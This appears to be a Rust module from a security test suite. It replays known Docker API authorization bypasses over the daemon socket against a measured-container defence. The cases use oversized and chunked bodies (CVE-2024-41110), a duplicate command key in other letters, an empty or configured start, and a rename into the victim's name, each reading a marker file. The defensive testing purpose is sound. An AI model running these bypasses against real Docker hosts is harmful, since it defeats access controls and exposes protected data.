//! Docker's API spoken by hand, in ways that have gone past plugins before it: what counts is what starts.

use super::{
    case::{Attack, Attacker::Client},
    evidence::Evidence,
    ground::{Ground, IMAGE},
};
use crate::{Outcome, engine::SOCKET, failure::During};
use serde_json::{Value, json};
use std::{
    io::{Read, Write},
    os::unix::net::UnixStream,
    time::Duration,
};

pub(super) const ATTACKS: &[Attack] = &[
    Attack::new(
        "api::a_body_that_is_too_large_to_be_shown",
        Client,
        "makes a container by a body of two megabytes, which Docker shows no AuthZ plugin",
        "the container is measured when it starts, and a plugin takes no request whose body it does not see",
        |ground| by_body(ground, &padded(2 << 20), Framing::Length),
    )
    .told(&[]),
    Attack::new(
        "api::a_body_of_no_stated_length",
        Client,
        "makes one by a body in pieces, of which a plugin sees none (CVE-2024-41110)",
        "the container is measured when it starts, and a plugin takes no request whose body it does not see",
        |ground| by_body(ground, &padded(0), Framing::Pieces),
    )
    .told(&[]),
    Attack::new(
        "api::a_key_twice_in_another_case",
        Client,
        "names the command twice, the harmless one first, the other in other letters",
        "the container is measured when it starts",
        |ground| {
            let harmless = wish(ground, "/bin/app").to_string();
            let second = "\"cMD\":[\"cat\",\"/data/marker\"],\"HostConfig\"";
            let body = harmless.replacen("\"HostConfig\"", second, 1);
            by_body(ground, &|_| body.clone(), Framing::Length)
        },
    )
    .told(&["argv"]),
    Attack::new(
        "api::an_empty_start",
        Client,
        "starts a container of his by a request with an empty body",
        "the container is measured when it starts",
        |ground| by_body(ground, &padded(10), Framing::Length),
    )
    .told(&["argv"]),
    Attack::new(
        "api::a_configuration_at_the_start",
        Client,
        "brings a configuration with the start, as old clients did",
        "the container is measured when it starts",
        a_configuration_at_the_start,
    )
    .without_control("Docker takes none with the start any more"),
    Attack::new(
        "api::a_rename_into_the_victim",
        Client,
        "gives his container the victim's name while it is made",
        "a name proves nothing",
        a_rename_into_the_victim,
    )
    .told(&["argv"]),
];

#[derive(Clone, Copy)]
pub(super) enum Framing {
    Length,
    Pieces,
}

/// A container of the victim's image, with the volume.
fn wish(ground: &Ground, program: &str) -> Value {
    json!({
        "Image": IMAGE,
        "Cmd": [program, "/data/marker"],
        "HostConfig": {
            "Runtime": ground.runtime(),
            "Binds": [format!("{}:/data", ground.volume())],
        },
    })
}

/// One that prints the secret, with so many bytes of padding.
fn padded(bytes: usize) -> impl Fn(&Ground) -> String {
    move |ground| {
        let mut wish = wish(ground, "cat");
        if let Some(fields) = wish.as_object_mut() {
            fields.insert("Labels".to_owned(), json!({ "padding": "x".repeat(bytes) }));
        }
        wish.to_string()
    }
}

fn by_body(ground: &mut Ground, body: &dyn Fn(&Ground) -> String, framing: Framing) -> Outcome<Evidence> {
    ground.written()?;
    let body = body(ground);
    let made = send("/v1.41/containers/create", &body, framing)?;
    run_made(ground, &made)
}

/// Runs what a request has made, if it has made anything.
pub(super) fn run_made(ground: &Ground, made: &str) -> Outcome<Evidence> {
    if !made.starts_with("HTTP/1.1 201") {
        return Ok(ground.told(made));
    }
    finish(ground, &id_of(made)?, "")
}

fn id_of(answer: &str) -> Outcome<String> {
    let begin = answer.find("\"Id\":\"").during(answer)?;
    let rest = answer.get(begin + 6..).unwrap_or_default();
    Ok(rest.chars().take_while(char::is_ascii_hexdigit).collect())
}

/// Starts it with a body, waits for its end and looks at what it printed.
fn finish(ground: &Ground, id: &str, body: &str) -> Outcome<Evidence> {
    let started = send(&format!("/v1.41/containers/{id}/start"), body, Framing::Length)?;
    if started.starts_with("HTTP/1.1 204") {
        ground.docker(&["wait", id])?.ok()?;
    }
    let logs = ground.docker(&["logs", id])?;
    Ok(ground
        .read(&logs)
        .and(Evidence::when(false, "", started.replace("\\\"", "\""))))
}

/// Sends a request with JSON in its body, and answers all that comes back.
pub(super) fn send(path: &str, body: &str, framing: Framing) -> Outcome<String> {
    let mut stream = UnixStream::connect(SOCKET)?;
    stream.set_read_timeout(Some(Duration::from_secs(20)))?;
    let head =
        format!("POST {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/json\r\n");
    let sent = match framing {
        Framing::Length => format!("{head}Content-Length: {}\r\n\r\n{body}", body.len()),
        Framing::Pieces => format!(
            "{head}Transfer-Encoding: chunked\r\n\r\n{:x}\r\n{body}\r\n0\r\n\r\n",
            body.len()
        ),
    };
    // Docker may refuse a large body before it has read it all; its answer is what counts.
    let unfinished = stream.write_all(sent.as_bytes());
    let mut answer = Vec::new();
    if let Err(error) = stream.read_to_end(&mut answer)
        && answer.is_empty()
    {
        unfinished.during("sending the request")?;
        return Err(error).during("reading the answer");
    }
    Ok(String::from_utf8_lossy(&answer).into_owned())
}

fn a_configuration_at_the_start(ground: &mut Ground) -> Outcome<Evidence> {
    ground.written()?;
    let harmless = wish(ground, "/bin/app");
    let mut harmless = harmless;
    if let Some(fields) = harmless.as_object_mut() {
        fields.remove("Cmd");
    }
    let made = send("/v1.41/containers/create", &harmless.to_string(), Framing::Length)?;
    let id = id_of(&made)?;
    finish(ground, &id, &wish(ground, "cat").to_string())
}

fn a_rename_into_the_victim(ground: &mut Ground) -> Outcome<Evidence> {
    ground.written()?;
    let made = send(
        "/v1.41/containers/create?name=trap",
        &padded(0)(ground),
        Framing::Length,
    )?;
    let id = id_of(&made)?;
    ground.docker(&["rename", "trap", "payments.app"])?.ok()?;
    finish(ground, &id, "")
}
